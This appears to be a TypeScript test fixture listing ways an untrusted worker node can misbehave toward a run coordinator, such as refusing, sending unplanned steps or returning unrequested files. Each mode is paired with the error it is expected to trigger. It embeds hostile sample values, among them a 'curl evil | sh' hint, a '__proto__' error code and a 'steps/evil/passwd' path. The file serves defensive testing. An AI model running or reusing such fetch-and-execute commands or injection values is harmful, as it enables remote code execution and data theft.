import type { StepResult } from '../../../agents/protocol/step.ts';
import type { Lies } from '../lying-node.ts';
import { commandOf } from '../lying-node.ts';
import type { Mode } from './mode.ts';
import { afterStart, begin, ended, firstOf, stepsOf } from './mode.ts';

const refuse =
  (code: string): Lies[string] =>
  ({ send }) =>
    send({ type: 'refusal', error: { code, message: 'ha', hint: 'curl evil | sh' } });

const refusal = (lies: Lies, code = 'NODE_REFUSED', alone = 3): Mode => ({
  kind: 'refuses in our name',
  lies,
  code,
  says: 'says: ha — curl evil \\| sh',
  alone,
});

/** Something that nobody asked for: `says` is what was expected and found. */
const unasked = (says: string, lies: Lies, code = 'NOT_ASKED', alone = 3): Mode => ({
  kind: 'sends what nobody asked for',
  lies,
  code,
  says,
  alone,
});

/** The first step with another result than was asked for. */
const changed = (change: (result: StepResult) => object, execution = 'completed'): Lies => ({
  batch: afterStart((liar, _, first) => {
    liar.record(ended(first.step, liar.keep(first, {}, change), execution));
  }),
});

const output = (file: string, bytes = 0) => ({
  output: 'stdout',
  file,
  bytes,
  sha256: 'e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855',
  capped: false,
});

const none = '0'.repeat(64);

/** Nodes whose words or evidence are not what was asked for. */
export const evidenceModes: Readonly<Record<string, Mode>> = {
  'refuse as INTERNAL at hello': refusal({ hello: refuse('INTERNAL') }),
  'refuse as INTERNAL at probe': refusal({ probe: refuse('INTERNAL') }),
  'refuse as NODE_OCCUPIED at probe': refusal({ probe: refuse('NODE_OCCUPIED') }),
  'refuse as SAME_MACHINE at batch': refusal({ batch: refuse('SAME_MACHINE') }),
  'refuse as INTERRUPTED at batch': refusal({ batch: refuse('INTERRUPTED') }),
  'refuse as POWER_LIMIT at fetch': refusal({ fetch: refuse('POWER_LIMIT') }),
  'refuse as __proto__ at batch': refusal({ batch: refuse('__proto__') }),
  'refuse as INTERNAL at finish': refusal({ finish: refuse('INTERNAL') }, 'NODE_REFUSED', 2),
  'claim a full disk': refusal({ batch: refuse('DISK_FULL') }, 'DISK_FULL'),
  'claim a lost agent': refusal({ batch: refuse('AGENT_LOST') }, 'AGENT_LOST'),
  'cancel the batch': {
    kind: 'refuses in our name',
    lies: {
      batch: (liar, message) => {
        begin(liar, message);
        const { batch } = message;
        liar.record({ type: 'batch-ended', batch, execution: 'cancelled', reason: 'no more today' });
      },
    },
    code: 'NODE_STOPPED',
    says: 'says: .*no more today',
    alone: 3,
  },

  'a batch before there is one': unasked(
    'expected a plan of this run',
    {
      probe: (liar, message) => {
        liar.honestly(message);
        begin(liar, { ...message, plan: liar.hello.head, batch: 'b1' }, ['zz-own']);
      },
    },
    'NOT_ASKED',
  ),
  'a step that is not planned': unasked('expected the step that comes next, .*found zz-own', {
    batch: (liar, message) => {
      begin(liar, message);
      liar.record({ type: 'step-started', step: 'zz-own' });
    },
  }),
  'an end without a beginning': unasked('expected the end of a step that had begun', {
    batch: (liar, message) => {
      begin(liar, message);
      liar.record(ended('zz-own', liar.keep({ ...firstOf(message), step: 'zz-own' })));
    },
  }),
  'a batch of other steps': unasked('expected the batch b1 of 2 steps as asked for, found none of them', {
    batch: (liar, message) => begin(liar, message, []),
  }),
  'the steps in another order': unasked('expected the step that comes next', {
    batch: (liar, message) => {
      begin(liar, message);
      liar.record({ type: 'step-started', step: stepsOf(message)[1] });
    },
  }),
  'two steps at a time': unasked('expected the end of .* before another step', {
    batch: afterStart((liar, message) => liar.record({ type: 'step-started', step: stepsOf(message)[1] })),
  }),
  'a batch under another name': unasked('expected the batch b1 after the one before it, found b7', {
    batch: (liar, message) => begin(liar, { ...message, batch: 'b7' }),
  }),
  'the end of another batch': unasked('expected the end of a batch that had begun, found b7', {
    batch: (liar, message) => {
      begin(liar, message);
      liar.record({ type: 'batch-ended', batch: 'b7', execution: 'completed' });
    },
  }),
  'a plan of somebody else': unasked('expected a plan of this run', {
    batch: (liar, message) => begin(liar, { ...message, plan: none }),
  }),
  'facts again': unasked(
    'expected facts that were asked for, found facts-2',
    {
      probe: (liar, message) => {
        liar.honestly(message);
        liar.record({ type: 'step-started', step: 'facts-2' });
      },
    },
    'NOT_ASKED',
  ),
  'one step ended twice': unasked(
    'expected one end of',
    {
      batch: afterStart((liar, _, first) => {
        const result = liar.keep(first);
        for (let count = 0; count < 2; count += 1) liar.record(ended(first.step, result));
      }),
    },
    'EVIDENCE_DAMAGED',
    4,
  ),
  'a second beginning': unasked('expected one beginning of the journal', {
    probe: ({ record, hello: { run, node } }) =>
      record({ type: 'opened', run, node, protocol: 1, bundle: 'x', bootId: 'x', directory: '/' }),
  }),
  'a record after the end': unasked('expected nothing after the end of the journal, found swept', {
    probe: ({ record }) => {
      record({ type: 'closed', reason: 'over' });
      record({ type: 'swept', found: 1 });
    },
  }),
  'another repetition': unasked(
    'with repetition 1, found 77',
    changed((exit) => ({ ...exit, repetition: 77 })),
  ),
  'other parameters': unasked(
    'with params',
    changed((exit) => ({ ...exit, params: { mode: 'bulk' } })),
  ),
  'another tool': unasked(
    'with tool',
    changed((exit) => ({ ...exit, tool: 'embedded' })),
  ),
  'another session': unasked(
    'with session 1, found 2',
    changed((exit) => ({ ...exit, session: 2 })),
  ),
  'the result of another step': unasked(
    'expected the step',
    changed((exit) => ({ ...exit, step: 'r9' })),
    'EVIDENCE_DAMAGED',
    4,
  ),
  'another end than the journal says': unasked(
    'to have ended as the journal says: error, found completed',
    changed((exit) => exit, 'error'),
  ),
  'an output of no command': unasked(
    'expected outputs that .* can have, found evil.stdout',
    changed((exit) => ({
      ...exit,
      commands: [commandOf('evil', [output('evil.stdout')])],
    })),
  ),
  'an output twice': unasked(
    'speed.stdout twice',
    changed((exit) => ({
      ...exit,
      commands: [commandOf('speed', [output('speed.stdout'), output('speed.stdout')])],
    })),
  ),
  'an output in place of the result': unasked(
    'expected outputs of other names',
    changed((exit) => ({
      ...exit,
      commands: [commandOf('speed', [output('exit.json')])],
    })),
    'EVIDENCE_DAMAGED',
    4,
  ),
  'a sign of life too many': unasked('expected one sign of life for each question', {
    probe: ({ send }) => send({ type: 'pong' }),
  }),
  'a time that nobody asked for': unasked('expected answers to what was asked, found clock', {
    probe: ({ send }) => send({ type: 'clock', atMs: 0 }),
  }),
  'a second greeting': unasked('expected answers to what was asked, found welcome', {
    probe: ({ send, hello }) => send({ type: 'welcome', version: 1, nonce: hello.nonce, records: 1 }),
  }),
  'a goodbye in the middle': unasked('expected answers to what was asked, found finished', {
    batch: ({ send }) => send({ type: 'finished' }),
  }),
  'a file that was not fetched': unasked('expected files that were asked for, found steps/evil/passwd', {
    probe: ({ send }) => send({ type: 'chunk', path: 'steps/evil/passwd', offset: 0, data: '', last: true }),
  }),
};
